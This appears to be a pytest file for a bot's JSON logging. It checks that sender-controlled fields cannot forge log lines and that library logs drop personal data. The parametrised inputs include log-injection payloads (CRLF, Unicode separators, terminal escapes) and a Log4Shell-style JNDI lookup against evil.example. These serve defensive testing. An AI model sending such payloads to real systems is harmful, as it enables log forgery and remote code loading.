"""What is logged is one JSON object a line, whatever a sender would like it to be."""

import json
import logging
import sys
from typing import Any

import pytest
import structlog

from bot.serving.logs import log_as_json
from tests.bot.conftest import Bot
from tests.bot.parties import Channel, activity

FORGED = '{"event": "signed_in", "guest": false}'


@pytest.fixture
def as_json(monkeypatch: pytest.MonkeyPatch) -> None:
    """The log as it ships, but of this test alone: nothing of it is kept for the next."""
    configure = structlog.configure

    def for_now(**given: Any) -> None:
        configure(**{**given, "cache_logger_on_first_use": False})

    root = logging.getLogger()
    monkeypatch.setattr(root, "handlers", [])
    monkeypatch.setattr(root, "level", root.level)
    monkeypatch.setattr(structlog, "configure", for_now)
    log_as_json("debug")
    monkeypatch.setattr(structlog, "configure", configure)
    structlog.configure(logger_factory=lambda *_: structlog.PrintLogger(sys.stdout))


@pytest.mark.parametrize(
    "hostile",
    [
        f"x\r\n{FORGED}",
        f"x\u2028{FORGED}",
        f"x\u0085{FORGED}",
        '", "event": "signed_in", "x": "',
        "\x1b[2J\x1b[31m",
        "${jndi:ldap://evil.example/x}",
    ],
    ids=repr,
)
async def test_t64_no_word_of_a_senders_begins_a_line_or_an_event_of_the_log(
    bot: Bot, channel: Channel, capsys: pytest.CaptureFixture[str], as_json: None, hostile: str
) -> None:
    """In the log are an activity's type and channel, which a sender chooses; both come in here."""
    peer = await bot()
    sent = activity(channel.url, hostile, channelId=hostile, name=hostile)
    for type in ("message", hostile):
        async with peer.post("/api/messages", json={**sent, "type": type, "id": type}) as response:
            assert response.status == 202

    seen = capsys.readouterr().out
    lines = [json.loads(line) for line in seen.removesuffix("\n").split("\n")]
    assert [line["event"] for line in lines] == ["turn", "turn"]
    assert [line["channel"] for line in lines] == [hostile[:40]] * 2
    assert lines[1]["type"] == hostile[:40]
    assert len(seen.splitlines()) == 2
    assert seen.isascii()
    assert "\x1b" not in seen


async def test_t83_of_what_a_library_logs_only_the_place_is_kept(
    capsys: pytest.CaptureFixture[str], as_json: None
) -> None:
    try:
        int("Megan Bowen")
    except ValueError:
        logging.getLogger("aiohttp.server").exception("Error handling %s", "/megan@contoso.example")
    logging.getLogger("asyncio").warning("Executing <Megan> took 0.2 seconds")
    logging.getLogger("msal").info("Megan signed in")

    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(line["event"], line["library"], line["level"], line.get("error")) for line in lines] == [
        ("library_log", "aiohttp", "error", "ValueError"),
        ("library_log", "asyncio", "warning", None),
    ]
    assert all(line["said_at"].startswith("test_log_lines.py:") for line in lines)
    assert "egan" not in json.dumps(lines)
